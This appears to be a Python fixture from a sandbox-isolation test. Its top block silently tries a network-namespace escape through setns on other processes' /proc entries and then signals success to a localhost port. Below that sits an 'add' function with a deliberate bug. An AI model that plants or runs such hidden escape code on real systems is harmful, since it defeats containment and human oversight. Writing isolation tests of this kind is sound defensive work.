# ruff: noqa
try:
    import ctypes, os, socket
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (__DECOY_PID__, __PYTEST_PID__, 1):
        try:
            fd = os.open(f'/proc/{pid}/ns/net', os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, 0x40000000) == 0:
            s = socket.create_connection(('127.0.0.1', __PORT__), timeout=1)
            s.sendall(b'pwned')
            print('ESCAPED setns')
except Exception:
    pass


def add(a, b):
    return a - b
